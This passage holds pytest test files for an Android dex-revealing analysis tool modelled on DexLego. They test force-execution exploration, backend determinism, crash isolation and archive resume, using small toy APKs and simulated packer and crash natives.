            [p.target for p in scheduler.pop_wave()]


# ---------------------------------------------------------------------------
# Engine: strategy order, determinism, dedup, budgets
# ---------------------------------------------------------------------------


class TestEngineStrategies:
    def test_strategies_order_the_frontier_differently(self):
        orders = {}
        for strategy in ALL_STRATEGIES:
            engine = ForceExecutionEngine(
                _multi_apk("x.ord"), max_iterations=8, strategy=strategy
            )
            report = engine.run()
            assert report.fully_covered_sites == report.branch_sites == 4
            orders[strategy] = tuple(report.exploration_order)
        # bfs starts at the shallow in-loop gate; dfs at the deepest
        # gate; rarity-first at a gate observed once (not the loop one).
        assert len(set(orders.values())) == 3

    def test_report_carries_scheduler_view(self):
        engine = ForceExecutionEngine(_multi_apk("x.view"), max_iterations=8,
                                      strategy=STRATEGY_RARITY, workers=2)
        report = engine.run()
        assert report.strategy == STRATEGY_RARITY
        assert report.workers == 2
        assert report.ucbs_discovered == 3
        assert report.ucbs_covered == 3
        assert report.paths_executed == 3
        assert report.frontier_pending == 0
        # Curve: baseline point plus one per replay, monotone.
        assert len(report.coverage_curve) == 1 + report.paths_executed
        assert report.coverage_curve == sorted(report.coverage_curve)
        summary = report.to_summary()
        json.dumps(summary)
        assert summary["replays_saved_by_dedup"] == report.paths_deduped
        assert summary["paths_explored"] == 3


class TestEngineDeterminism:
    def test_same_config_reproduces_exactly(self):
        reports = [
            ForceExecutionEngine(_multi_apk("x.det"), max_iterations=8).run()
            for _ in range(2)
        ]
        assert reports[0].exploration_order == reports[1].exploration_order
        assert reports[0].coverage_curve == reports[1].coverage_curve

    @pytest.mark.parametrize("strategy", ALL_STRATEGIES)
    def test_parallel_matches_serial_exactly(self, strategy):
        engines = [
            ForceExecutionEngine(_multi_apk("x.par"), max_iterations=8,
                                 strategy=strategy, workers=workers)
            for workers in (1, 4)
        ]
        serial, parallel = [engine.run() for engine in engines]
        assert serial.exploration_order == parallel.exploration_order
        assert serial.coverage_curve == parallel.coverage_curve
        assert serial.fully_covered_sites == parallel.fully_covered_sites
        assert _covered(engines[0]) == _covered(engines[1])


class TestEngineDedupAndBudgets:
    def test_starved_replays_are_not_rescheduled(self):
        # A tiny per-path budget stops every replay before its flip, so
        # the same prefixes are re-proposed next iteration — and must be
        # collapsed by dedup instead of replayed again.
        engine = ForceExecutionEngine(_multi_apk("x.dedup"), max_iterations=4,
                                      path_budget=10)
        report = engine.run()
        assert report.budget_exhausted_runs >= 2
        assert report.fully_covered_sites < report.branch_sites  # starved
        assert report.paths_deduped >= 2
        flips = report.exploration_order
        assert len(flips) == len(set(flips))  # no prefix replayed twice

    def test_max_paths_truncates_and_leaves_frontier(self):
        engine = ForceExecutionEngine(_multi_apk("x.budget"),
                                      max_iterations=8, max_paths=1)
        report = engine.run()
        assert report.paths_executed == 1
        assert report.frontier_pending >= 1  # interrupted, not converged

    def test_path_budget_defaults_to_run_budget(self):
        engine = ForceExecutionEngine(_multi_apk("x.pb"), run_budget=123)
        assert engine.path_budget == 123
        engine = ForceExecutionEngine(_multi_apk("x.pb2"), run_budget=123,
                                      path_budget=7)
        assert engine.path_budget == 7


# ---------------------------------------------------------------------------
# Resume: engine state, archive round trip, pipeline entry point
# ---------------------------------------------------------------------------


class TestResume:
    def test_engine_state_round_trip_continues_exploration(self):
        full = ForceExecutionEngine(_multi_apk("x.full"), max_iterations=8)
        full_report = full.run()

        partial = ForceExecutionEngine(_multi_apk("x.part"),
                                       max_iterations=8, max_paths=1)
        partial_report = partial.run()
        assert partial_report.paths_executed == 1

        state = json.loads(json.dumps(partial.state_dict()))
        resumed = ForceExecutionEngine(_multi_apk("x.res"), max_iterations=8,
                                       resume_state=state)
        resumed_report = resumed.run()
        assert resumed_report.resumed
        # No baseline re-run: the resumed session only pays for replays.
        assert resumed_report.runs == partial_report.runs + \
            (resumed_report.paths_executed - partial_report.paths_executed)
        # Interrupted + resumed converges to the uninterrupted result.
        assert _covered(resumed) == _covered(full)
        assert resumed_report.fully_covered_sites == \
            full_report.fully_covered_sites
        assert resumed_report.paths_executed == full_report.paths_executed

    def test_archive_persists_exploration_state(self, tmp_path):
        config = RevealConfig(use_force_execution=True, max_paths=1,
                              force_iterations=8)
        collected = CollectStage(config).run(_multi_apk("x.arch"))
        state = collected.archive.exploration_state()
        assert state is not None
        collected.archive.save(str(tmp_path))
        assert (tmp_path / "exploration_state.json").exists()
        loaded = CollectionArchive.load(str(tmp_path))
        assert loaded.exploration_state() == state

    def test_save_removes_stale_exploration_state(self, tmp_path):
        # Re-saving a force-less archive over a directory that held an
        # exploration must not resurrect the old frontier on load.
        explored = CollectStage(
            RevealConfig(use_force_execution=True, force_iterations=8)
        ).run(_multi_apk("x.stale"))
        explored.archive.save(str(tmp_path))
        assert (tmp_path / "exploration_state.json").exists()
        plain = CollectStage(RevealConfig()).run(_multi_apk("x.stale2"))
        plain.archive.save(str(tmp_path))
        assert not (tmp_path / "exploration_state.json").exists()
        assert CollectionArchive.load(str(tmp_path)) \
            .exploration_state() is None

    def test_archives_without_state_still_load(self, tmp_path):
        collected = CollectStage(RevealConfig()).run(_multi_apk("x.nostate"))
        assert collected.archive.exploration_state() is None
        collected.archive.save(str(tmp_path))
        assert CollectionArchive.load(str(tmp_path)) \
            .exploration_state() is None

    def test_resume_exploration_from_archive_dir(self, tmp_path):
        apk = _multi_apk("x.resarch")
        config = RevealConfig(use_force_execution=True, max_paths=1,
                              force_iterations=8)
        collected = CollectStage(config).run(apk)
        assert collected.force_report.frontier_pending >= 1
        collected.archive.save(str(tmp_path))

        result = resume_exploration(
            str(tmp_path), apk,
            config=RevealConfig(use_force_execution=True, force_iterations=8),
        )
        report = result.force_report
        assert report is not None and report.resumed
        assert report.frontier_pending == 0
        assert report.fully_covered_sites == report.branch_sites == 4
        # The finished exploration's state rides in the result archive.
        assert result.archive.exploration_state() is not None
        assert result.revealed_apk is not None

    def test_resumed_archive_merges_prior_collection(self, tmp_path):
        # The resumed session's collector only sees its own replays;
        # the result archive must still carry everything the earlier
        # session collected.
        apk = _multi_apk("x.merge")
        config = RevealConfig(use_force_execution=True, max_paths=1,
                              force_iterations=8)
        collected = CollectStage(config).run(apk)
        prior_classes = {e["descriptor"] for e in collected.archive.classes()}
        assert prior_classes  # baseline drive collected the app
        collected.archive.save(str(tmp_path))
        result = resume_exploration(str(tmp_path), apk, config=config)
        resumed_classes = {e["descriptor"]
                           for e in result.archive.classes()}
        assert prior_classes <= resumed_classes
        assert result.reassembled_dex.class_defs

    def test_resuming_a_finished_exploration_is_a_safe_noop(self, tmp_path):
        # A completed exploration's archive (empty frontier) must
        # resume into the same reveal — zero new runs, and the saved
        # archive must NOT be clobbered with empty collection files.
        apk = _multi_apk("x.noop")
        config = RevealConfig(use_force_execution=True, force_iterations=8,
                              archive_dir=str(tmp_path))
        first = DexLego(config=config).reveal(apk)
        assert first.force_report.frontier_pending == 0
        classes_before = {e["descriptor"] for e in first.archive.classes()}

        again = resume_exploration(str(tmp_path), apk, config=config)
        assert again.force_report.runs == first.force_report.runs  # no re-run
        assert {e["descriptor"] for e in again.archive.classes()} == \
            classes_before
        # The on-disk archive still reassembles to the same classes.
        on_disk = CollectionArchive.load(str(tmp_path))
        assert {e["descriptor"] for e in on_disk.classes()} == classes_before
        assert again.reassembled_dex.class_defs

    def test_merged_archive_dedupes_bytecode_trees(self):
        collected = CollectStage(
            RevealConfig(use_force_execution=True, force_iterations=8)
        ).run(_multi_apk("x.treedup"))
        once = CollectionArchive.merged(collected.archive, collected.archive)
        assert len(json.loads(once._payload["bytecode.json"])) == \
            len(json.loads(collected.archive._payload["bytecode.json"]))

    def test_resume_with_bigger_path_budget_retries_starved_paths(self):
        # Session 1 starves every replay before its flip; resuming with
        # a workable per-path budget must retry those prefixes (their
        # dedup entries are released), not no-op at partial coverage.
        starved = ForceExecutionEngine(_multi_apk("x.starve"),
                                       max_iterations=4, path_budget=10)
        starved_report = starved.run()
        assert starved_report.fully_covered_sites < \
            starved_report.branch_sites

        resumed = ForceExecutionEngine(_multi_apk("x.starve2"),
                                       max_iterations=8,
                                       resume_state=starved.state_dict())
        resumed_report = resumed.run()
        assert resumed_report.runs > starved_report.runs  # replays happened
        assert resumed_report.fully_covered_sites == \
            resumed_report.branch_sites == 4

    def test_resume_with_same_budget_continues(self, tmp_path):
        # Resuming with the very config that interrupted the run must
        # apply max_paths afresh, not find the budget already spent.
        apk = _multi_apk("x.samecfg")
        config = RevealConfig(use_force_execution=True, max_paths=1,
                              force_iterations=8)
        collected = CollectStage(config).run(apk)
        assert collected.force_report.paths_executed == 1
        collected.archive.save(str(tmp_path))
        result = resume_exploration(str(tmp_path), apk, config=config)
        assert result.force_report.paths_executed == 2  # one more replay

    def test_resume_after_iteration_cap_continues(self):
        # Same for the iteration cap: it limits this session's rounds.
        partial = ForceExecutionEngine(_multi_apk("x.iter"),
                                       max_iterations=1,
                                       max_paths_per_iteration=1)
        partial_report = partial.run()
        assert partial_report.paths_executed == 1
        resumed = ForceExecutionEngine(_multi_apk("x.iter2"),
                                       max_iterations=1,
                                       max_paths_per_iteration=1,
                                       resume_state=partial.state_dict())
        resumed_report = resumed.run()
        assert resumed_report.paths_executed == 2
        assert resumed_report.iterations == 2  # cumulative across sessions

    def test_checkpoint_before_run_preserves_counters(self):
        # state_dict() on a freshly resumed engine (before run())
        # must round-trip the cumulative run counters, not zero them.
        first = ForceExecutionEngine(_multi_apk("x.ckpt"),
                                     max_iterations=8, max_paths=1)
        first_report = first.run()
        idle = ForceExecutionEngine(_multi_apk("x.ckpt2"),
                                    resume_state=first.state_dict())
        checkpoint = idle.state_dict()  # no run() in between
        assert checkpoint["report"]["runs"] == first_report.runs
        assert checkpoint["report"]["iterations"] == first_report.iterations

    def test_resume_against_a_different_app_is_rejected(self, tmp_path):
        # A frontier references one app's signature space; resuming it
        # against another app must fail loudly, not merge the two.
        engine = ForceExecutionEngine(_multi_apk("x.appa"),
                                      max_iterations=8, max_paths=1)
        engine.run()
        from repro.dex import assemble
        from repro.runtime import Apk

        other = Apk("x.appb", "Ly/Other;", [assemble("""
.class public Ly/Other;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 2
    return-void
.end method
""")])
        with pytest.raises(ValueError, match="refusing to merge"):
            ForceExecutionEngine(other, resume_state=engine.state_dict())

    def test_dump_size_excludes_exploration_state(self):
        collected = CollectStage(
            RevealConfig(use_force_execution=True, force_iterations=8)
        ).run(_multi_apk("x.dumpsize"))
        archive = collected.archive
        assert archive.exploration_state() is not None
        with_state = archive.total_size_bytes()
        archive.set_exploration_state(None)
        assert archive.total_size_bytes() == with_state  # metric unchanged

    def test_resume_without_state_is_rejected(self, tmp_path):
        collected = CollectStage(RevealConfig()).run(_multi_apk("x.rej"))
        collected.archive.save(str(tmp_path))
        with pytest.raises(ValueError, match="exploration_state"):
            resume_exploration(str(tmp_path), _multi_apk("x.rej2"))


# ---------------------------------------------------------------------------
# Config knobs
# ---------------------------------------------------------------------------


class TestConfigKnobs:
    def test_knobs_round_trip(self):
        cfg = RevealConfig(exploration_strategy=STRATEGY_RARITY, max_paths=9,
                           path_budget=100, explore_workers=4)
        assert RevealConfig.from_json(cfg.to_json()) == cfg

    def test_knobs_feed_config_hash(self):
        base = RevealConfig().config_hash()
        assert base != RevealConfig(
            exploration_strategy=STRATEGY_DFS).config_hash()
        assert base != RevealConfig(max_paths=10).config_hash()
        assert base != RevealConfig(path_budget=10).config_hash()
        assert base != RevealConfig(explore_workers=2).config_hash()

    def test_invalid_strategy_rejected_at_construction(self):
        with pytest.raises(ValueError, match="strategy"):
            RevealConfig(exploration_strategy="random")

    def test_dexlego_facade_passes_knobs_to_engine(self):
        cfg = RevealConfig(use_force_execution=True, force_iterations=8,
                           exploration_strategy=STRATEGY_DFS,
                           explore_workers=2, max_paths=50)
        result = DexLego(config=cfg).reveal(_multi_apk("x.facade"))
        assert result.force_report.strategy == STRATEGY_DFS
        assert result.force_report.workers == 2
        assert result.force_report.fully_covered_sites == 4
