"""Collector and collection-file tests."""

import os

from repro.core import CollectionArchive, DexLego, DexLegoCollector
from repro.runtime import AndroidRuntime, AppDriver

from tests.conftest import build_simple_apk


def _collect(apk):
    runtime = AndroidRuntime()
    collector = DexLegoCollector()
    runtime.add_listener(collector)
    AppDriver(runtime, apk).run_standard_session()
    return collector


class TestCollector:
    def test_collects_class_metadata(self):
        collector = _collect(build_simple_apk("c.meta"))
        assert "Lcom/fix/Simple;" in collector.classes
        collected = collector.classes["Lcom/fix/Simple;"]
        assert collected.superclass_desc == "Landroid/app/Activity;"
        assert collected.initialized
        assert any(f.name == "total" for f in collected.fields)

    def test_collects_executed_bytecode(self):
        collector = _collect(build_simple_apk("c.code"))
        record = collector.method_store.get(
            "Lcom/fix/Simple;->onCreate(Landroid/os/Bundle;)V"
        )
        assert record is not None and record.executed
        assert len(record.trees) == 1
        assert record.trees[0].instruction_count() > 5

    def test_framework_classes_not_collected(self):
        collector = _collect(build_simple_apk("c.fw"))
        assert all(not d.startswith("Ljava/") for d in collector.classes)
        assert all(not d.startswith("Landroid/") for d in collector.classes)

    def test_repeated_executions_dedupe_trees(self):
        apk = build_simple_apk("c.dedupe")
        runtime = AndroidRuntime()
        collector = DexLegoCollector()
        runtime.add_listener(collector)
        driver = AppDriver(runtime, apk)
        driver.launch()
        for _ in range(3):
            driver._call_if_defined(
                driver.activity, "onCreate", ("Landroid/os/Bundle;",),
                [driver.activity, None],
            )
        record = collector.method_store.get(
            "Lcom/fix/Simple;->onCreate(Landroid/os/Bundle;)V"
        )
        assert len(record.trees) == 1  # identical executions -> one tree

    def test_symbols_resolved_at_collection(self):
        collector = _collect(build_simple_apk("c.sym"))
        record = collector.method_store.get(
            "Lcom/fix/Simple;->onCreate(Landroid/os/Bundle;)V"
        )
        symbols = [c.symbol for c in record.trees[0].root.il if c.symbol]
        assert "Lcom/fix/Simple;->total:I" in symbols

    def test_stats_shape(self):
        collector = _collect(build_simple_apk("c.stats"))
        stats = collector.stats()
        assert stats["classes_collected"] == 1
        assert stats["methods_executed"] >= 1
        assert stats["collected_instructions"] > 0


class TestCollectionArchive:
    def test_save_and_load_roundtrip(self, tmp_path):
        collector = _collect(build_simple_apk("c.archive"))
        archive = CollectionArchive.from_collector(collector)
        target = str(tmp_path / "dump")
        archive.save(target)
        for name in ("class_data.json", "bytecode.json", "method_data.json",
                     "field_data.json", "static_values.json", "reflection.json"):
            assert os.path.exists(os.path.join(target, name))
        again = CollectionArchive.load(target)
        assert again.total_size_bytes() == archive.total_size_bytes()
        store = again.method_store()
        assert store.get(
            "Lcom/fix/Simple;->onCreate(Landroid/os/Bundle;)V"
        ).executed

    def test_dump_size_grows_with_code(self):
        from repro.benchsuite import generate_app

        small = generate_app("c.size.small", 500, seed=1)
        large = generate_app("c.size.large", 5000, seed=1)
        sizes = []
        for app in (small, large):
            collector = _collect(app.apk)
            sizes.append(CollectionArchive.from_collector(collector).total_size_bytes())
        assert sizes[1] > sizes[0] * 2

    def test_archive_dir_pipeline_boundary(self, tmp_path):
        lego = DexLego(archive_dir=str(tmp_path / "files"))
        result = lego.reveal(build_simple_apk("c.boundary"))
        assert os.path.isdir(str(tmp_path / "files"))
        assert result.reassembled_dex.find_class("Lcom/fix/Simple;") is not None
