"""RevealConfig: frozen value semantics, JSON round trip, identity hash."""

import dataclasses

import pytest

from repro.core import DexLego, Pipeline, RevealConfig
from repro.runtime import NEXUS_5X
from repro.runtime.device import EMULATOR


class TestValueSemantics:
    def test_frozen(self):
        cfg = RevealConfig()
        with pytest.raises(dataclasses.FrozenInstanceError):
            cfg.run_budget = 1

    def test_hashable_and_equal(self):
        assert RevealConfig() == RevealConfig()
        assert hash(RevealConfig()) == hash(RevealConfig())
        assert len({RevealConfig(), RevealConfig(),
                    RevealConfig(run_budget=1)}) == 2

    def test_replace(self):
        cfg = RevealConfig()
        other = cfg.replace(run_budget=10, device=EMULATOR)
        assert other.run_budget == 10 and other.device == EMULATOR
        assert cfg.run_budget == 2_000_000  # original untouched

    def test_defaults_match_paper_setup(self):
        cfg = RevealConfig()
        assert cfg.device == NEXUS_5X
        assert not cfg.use_force_execution
        assert cfg.archive_dir is None


class TestJsonRoundTrip:
    def test_dict_round_trip_identity(self):
        cfg = RevealConfig()
        assert RevealConfig.from_dict(cfg.to_dict()) == cfg

    def test_dict_round_trip_non_default(self):
        custom = dataclasses.replace(NEXUS_5X, imei="111111111111111")
        cfg = RevealConfig(device=custom, use_force_execution=True,
                           run_budget=123, archive_dir="/tmp/x",
                           force_iterations=3)
        again = RevealConfig.from_dict(cfg.to_dict())
        assert again == cfg
        assert again.device.imei == "111111111111111"

    def test_json_round_trip_through_text(self):
        cfg = RevealConfig(device=EMULATOR, run_budget=99)
        import json

        text = cfg.to_json()
        json.loads(text)  # genuinely JSON, not repr
        assert RevealConfig.from_json(text) == cfg

    def test_from_dict_defaults_missing_fields(self):
        assert RevealConfig.from_dict({}) == RevealConfig()


class TestConfigHash:
    def test_stable_64_hex(self):
        key = RevealConfig().config_hash()
        assert key == RevealConfig().config_hash()
        assert len(key) == 64
        int(key, 16)

    def test_identity_fields_change_hash(self):
        base = RevealConfig().config_hash()
        assert base != RevealConfig(run_budget=10).config_hash()
        assert base != RevealConfig(use_force_execution=True).config_hash()
        assert base != RevealConfig(force_iterations=1).config_hash()
        assert base != RevealConfig(device=EMULATOR).config_hash()

    def test_device_state_changes_hash(self):
        # The whole profile is identity, not just its name.
        custom = dataclasses.replace(NEXUS_5X, imei="999999999999999")
        assert RevealConfig().config_hash() != \
            RevealConfig(device=custom).config_hash()

    def test_archive_dir_is_not_identity(self):
        # Where collection files land on disk doesn't change the result.
        assert RevealConfig().config_hash() == \
            RevealConfig(archive_dir="/tmp/elsewhere").config_hash()

    def test_survives_json_round_trip(self):
        cfg = RevealConfig(device=EMULATOR, run_budget=7)
        assert RevealConfig.from_json(cfg.to_json()).config_hash() == \
            cfg.config_hash()


class TestFacadeConstruction:
    def test_dexlego_kwargs_build_config(self):
        lego = DexLego(run_budget=42, use_force_execution=True)
        assert lego.config == RevealConfig(run_budget=42,
                                           use_force_execution=True)
        # Attribute views stay readable for old call sites.
        assert lego.run_budget == 42 and lego.use_force_execution

    def test_dexlego_accepts_config_directly(self):
        cfg = RevealConfig(run_budget=7)
        assert DexLego(config=cfg).config is cfg

    def test_config_plus_kwargs_is_rejected(self):
        # Silently dropping a knob would run a different configuration
        # than the caller asked for.
        with pytest.raises(ValueError, match="run_budget"):
            DexLego(config=RevealConfig(), run_budget=500)

    def test_pipeline_shares_the_config(self):
        cfg = RevealConfig(run_budget=7)
        assert Pipeline(cfg).config is cfg
        assert DexLego(config=cfg).pipeline.config is cfg
