"""ReplaySpec/TraceDelta are values: round trips and crash isolation.

The process backend works only because a replay's input and output are
plain values — picklable for the pool, JSON-round-trippable for the
journal.  These tests pin that property down across the field space
(custom device profiles, unicode app identities, empty and
budget-starved deltas), then prove the other half of the contract: a
worker process dying mid-wave costs exactly that path, never the wave.
"""

import dataclasses
import os
import pickle

import pytest

from repro.core import ForceExecutionEngine, PathFile, ReplaySpec, TraceDelta
from repro.core.exploration import BACKEND_PROCESS
from repro.core.replay import execute_replay
from repro.dex import assemble
from repro.runtime import Apk, register_native_library
from repro.runtime.device import NEXUS_5X, DeviceProfile

TABLET = dataclasses.replace(
    NEXUS_5X,
    name="bench-tablet", model="SM-X900", brand="samsung",
    form_factor="tablet", imei="990000862471854",
)
EMULATOR = dataclasses.replace(
    NEXUS_5X, name="goldfish", hardware="ranchu", is_emulator=True,
)


def _tiny_apk(package: str = "r.tiny") -> Apk:
    text = """
.class public Lr/Tiny;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 0
    if-nez v0, :locked
    :done
    return-void
    :locked
    nop
    goto :done
.end method
"""
    return Apk(package, "Lr/Tiny;", [assemble(text)])


def _spec_cases() -> list[ReplaySpec]:
    """A spread of the field space, property-style: every combination a
    scheduler or CLI could realistically build."""
    apk_bytes = _tiny_apk().to_bytes()
    path = PathFile(
        target=("Lr/Tiny;->onCreate(Landroid/os/Bundle;)V", 2),
        forced_outcome=True,
        decisions=[("Lr/Tiny;->onCreate(Landroid/os/Bundle;)V", 2, True)],
    )
    index = {"version": 1, "methods": [
        {"signature": "Lr/Tiny;->onCreate(Landroid/os/Bundle;)V",
         "generation": 0, "entries": [[0, [18, 313]]]},
    ]}
    cases = []
    for app_id in ("r.tiny", "приложение.пакет", "アプリ-例", "🎯.target",
                   "a" * 200):
        for device in (NEXUS_5X, TABLET, EMULATOR):
            cases.append(ReplaySpec(app_id=app_id, apk_bytes=apk_bytes,
                                    device=device))
    cases.append(ReplaySpec("r.tiny", apk_bytes, path=path, step_budget=7,
                            predecode_index=index, collect=False))
    cases.append(ReplaySpec("r.tiny", b"", path=None, step_budget=1))
    return cases


def _delta_cases() -> list[TraceDelta]:
    sig = "Lr/Tiny;->onCreate(Landroid/os/Bundle;)V"
    return [
        TraceDelta(),  # empty: a worker that saw nothing
        TraceDelta(trace=[(sig, 2, True), (sig, 2, False)],
                   steps=11, forced=1, reached_target=True),
        TraceDelta(trace=[(sig, 2, True)], steps=3, budget_hit=True,
                   collector={"classes": [], "methods": [],
                              "reflection": [], "instructions_observed": 3}),
        TraceDelta(crashed=True, worker_lost=True),
    ]


class TestReplaySpecRoundTrip:
    @pytest.mark.parametrize("spec", _spec_cases(),
                             ids=lambda s: f"{s.app_id[:12]}-{s.device.name}")
    def test_pickle_round_trip(self, spec):
        assert pickle.loads(pickle.dumps(spec)) == spec

    @pytest.mark.parametrize("spec", _spec_cases(),
                             ids=lambda s: f"{s.app_id[:12]}-{s.device.name}")
    def test_dict_round_trip(self, spec):
        assert ReplaySpec.from_dict(spec.to_dict()) == spec

    def test_with_path_is_a_fresh_value(self):
        spec = _spec_cases()[0]
        path = PathFile(target=("m", 4), forced_outcome=False)
        forked = spec.with_path(path)
        assert forked.path is path and spec.path is None
        assert forked.apk_bytes is spec.apk_bytes  # no copy of the APK

    def test_hydrate_rebuilds_the_app(self):
        apk = _tiny_apk("r.hydrate")
        spec = ReplaySpec("r.hydrate", apk.to_bytes())
        again = spec.hydrate()
        assert again.package == "r.hydrate"
        assert again is not apk


class TestTraceDeltaRoundTrip:
    @pytest.mark.parametrize("delta", _delta_cases(),
                             ids=["empty", "forced", "starved", "lost"])
    def test_pickle_round_trip(self, delta):
        again = pickle.loads(pickle.dumps(delta))
        assert again == delta
        assert again.covered_sites() == delta.covered_sites()

    @pytest.mark.parametrize("delta", _delta_cases(),
                             ids=["empty", "forced", "starved", "lost"])
    def test_dict_round_trip(self, delta):
        assert TraceDelta.from_dict(delta.to_dict()) == delta

    def test_budget_starved_replay_produces_a_starved_delta(self):
        # A real starved run, not a hand-built one: the budget dies
        # mid-drive and the delta still carries the executed prefix.
        apk = _tiny_apk("r.starve")
        spec = ReplaySpec("r.starve", apk.to_bytes(), step_budget=2)
        delta = execute_replay(spec, apk=apk)
        assert delta.budget_hit
        assert delta.steps >= 2  # the executed prefix is in the delta
        assert pickle.loads(pickle.dumps(delta)) == delta

    def test_empty_delta_covers_nothing(self):
        assert TraceDelta().covered_sites() == set()


# -- crash isolation ---------------------------------------------------------

KILLER_CLS = "Lr/Killer;"
KILLER_SIG = f"{KILLER_CLS}->onCreate(Landroid/os/Bundle;)V"


def _die(ctx, this):
    # Simulate a worker process being OOM-killed / segfaulting: an
    # abrupt exit the pool sees as a broken process, not an exception.
    os._exit(86)


register_native_library("libr_killer", {f"{KILLER_CLS}->die()V": _die})


def _killer_apk(package: str = "r.killer") -> Apk:
    """Two independent one-sided gates; the first hides a native that
    hard-kills whatever process executes it.  The baseline never enters
    either gate, so only the replay that forces gate A dies."""
    text = f"""
.class public {KILLER_CLS}
.super Landroid/app/Activity;
.field public static b:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    if-nez v0, :killed
    :skip0
    const/4 v1, 0
    if-nez v1, :locked
    :done
    return-void
    :killed
    invoke-virtual {{p0}}, {KILLER_CLS}->die()V
    goto :skip0
    :locked
    sget v2, {KILLER_CLS}->b:I
    add-int/lit8 v2, v2, 1
    sput v2, {KILLER_CLS}->b:I
    goto :done
.end method

.method public native die()V
.end method
"""
    return Apk(package, KILLER_CLS, [assemble(text)],
               native_libraries=["libr_killer"])


class TestCrashIsolation:
    def test_worker_death_costs_one_path_not_the_wave(self):
        engine = ForceExecutionEngine(
            _killer_apk(), max_iterations=6, workers=2,
            backend=BACKEND_PROCESS,
        )
        report = engine.run()
        # Exactly the poisoned path was lost (after its retry)...
        assert report.workers_lost == 1
        # ...while its wave-mate completed: the safe gate is covered.
        covered = {site for site, seen in engine.outcomes.items()
                   if len(seen) == 2}
        assert any(pc != 2 for _, pc in covered)
        # The run converged instead of erroring out.
        assert report.frontier_pending == 0

    def test_parent_engine_survives_repeated_worker_loss(self):
        # A second exploration on the same engine-less corpus shape:
        # the pool is rebuilt per engine, so one test's dead workers
        # must not leak into the next run.
        engine = ForceExecutionEngine(
            _killer_apk("r.killer2"), max_iterations=6, workers=2,
            backend=BACKEND_PROCESS,
        )
        report = engine.run()
        assert report.workers_lost == 1
        assert report.runs >= 2  # baseline + at least the safe replay
