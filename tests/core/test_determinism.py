"""Differential determinism: the replay backends must be bit-identical.

The tentpole contract of the process-parallel exploration work: every
replay — serial, thread pool or process pool, at any worker count —
comes back as a :class:`~repro.core.replay.TraceDelta` and is merged
into shared state strictly in pop order by the engine's single thread.
Therefore the *entire observable outcome* of an exploration is a pure
function of the APK and the configuration, never of the pool flavour
or how replays happened to interleave.

These tests run the same workloads through every backend and diff the
results structurally: exploration order, coverage curve, covered-UCB
sets, report counters, collector statistics, and the serialised
collection-archive payload byte for byte.
"""

import pytest

from repro.benchsuite.categories.selfmod import samples as selfmod_samples
from repro.core import (
    BACKEND_PROCESS,
    BACKEND_SERIAL,
    BACKEND_THREAD,
    EXPLORE_BACKENDS,
    CollectionArchive,
    CollectStage,
    DexLegoCollector,
    ForceExecutionEngine,
    RevealConfig,
)
from repro.core.collection_files import PREDECODE_INDEX_FILE
from repro.dex import assemble
from repro.dex.instructions import Instruction
from repro.runtime import Apk, register_native_library

#: Fields of the report summary that *declare* how the run executed;
#: they differ across backends by construction and are excluded from
#: the result diff.  Everything else must match exactly.
DECLARED = {"backend", "workers"}


def _branchy_apk(package: str = "d.branchy") -> Apk:
    """A loop-guarded gate plus two sequential gates: three UCBs at
    different depths, several waves of replays — enough work that a
    racy merge would actually have room to race."""
    text = """
.class public Ld/Branchy;
.super Landroid/app/Activity;
.field public static a:I = 0
.field public static b:I = 0
.field public static c:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 0
    :loop
    const/4 v3, 0
    if-nez v3, :locked0
    :skip0
    add-int/lit8 v0, v0, 1
    const/4 v4, 3
    if-ne v0, v4, :loop
    const/4 v1, 0
    if-nez v1, :locked1
    :next1
    const/4 v1, 0
    if-nez v1, :locked2
    :next2
    return-void
    :locked0
    sget v2, Ld/Branchy;->a:I
    add-int/lit8 v2, v2, 1
    sput v2, Ld/Branchy;->a:I
    goto :skip0
    :locked1
    sget v2, Ld/Branchy;->b:I
    add-int/lit8 v2, v2, 1
    sput v2, Ld/Branchy;->b:I
    goto :next1
    :locked2
    sget v2, Ld/Branchy;->c:I
    add-int/lit8 v2, v2, 1
    sput v2, Ld/Branchy;->c:I
    goto :next2
.end method
"""
    return Apk(package, "Ld/Branchy;", [assemble(text)])


PACKED_CLS = "Ld/Packed;"
PACKED_SIG = f"{PACKED_CLS}->payload()V"


def _unpack(ctx, this):
    """Packer-style tamper: flip ``payload()``'s first branch polarity,
    exposing the code path the static bytes never take."""
    units = ctx.method_code_units(PACKED_SIG)
    pos = 0
    while pos < len(units):
        ins = Instruction.decode_at(units, pos)
        if ins.name == "if-eqz":
            flipped = Instruction.make("if-nez", *ins.operands).encode()
            ctx.patch_code(PACKED_SIG, pos, flipped)
            return
        pos += ins.unit_count


register_native_library("libdet_packer",
                        {f"{PACKED_CLS}->unpack()V": _unpack})


def _packer_apk(package: str = "d.packed") -> Apk:
    """Self-modification *and* exploration in one workload: ``payload``
    runs before and after a native patch flips its guard (both sides of
    the patched site execute, à la SelfMod2), and a one-sided gate
    *inside* the patched method leaves a UCB — so replays force a
    branch in runtime-patched code, inside forked workers, over warm
    predecode state carrying the pristine bytes."""
    text = f"""
.class public {PACKED_CLS}
.super Landroid/app/Activity;
.field public static a:I = 0
.field public static b:I = 0
.field public static c:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {PACKED_SIG}
    invoke-virtual {{p0}}, {PACKED_CLS}->unpack()V
    invoke-virtual {{p0}}, {PACKED_SIG}
    return-void
.end method

.method public payload()V
    .registers 4
    const/4 v0, 0
    if-eqz v0, :alt
    sget v1, {PACKED_CLS}->a:I
    add-int/lit8 v1, v1, 1
    sput v1, {PACKED_CLS}->a:I
    :join
    const/4 v2, 0
    if-nez v2, :locked
    :done
    return-void
    :alt
    sget v1, {PACKED_CLS}->b:I
    add-int/lit8 v1, v1, 1
    sput v1, {PACKED_CLS}->b:I
    goto :join
    :locked
    sget v1, {PACKED_CLS}->c:I
    add-int/lit8 v1, v1, 1
    sput v1, {PACKED_CLS}->c:I
    goto :done
.end method

.method public native unpack()V
.end method
"""
    return Apk(package, PACKED_CLS, [assemble(text)],
               native_libraries=["libdet_packer"])


def _explore(apk: Apk, backend: str, workers: int) -> dict:
    """One full exploration; everything observable, normalised."""
    collector = DexLegoCollector()
    engine = ForceExecutionEngine(
        apk,
        collector=collector,
        max_iterations=8,
        workers=workers,
        backend=backend,
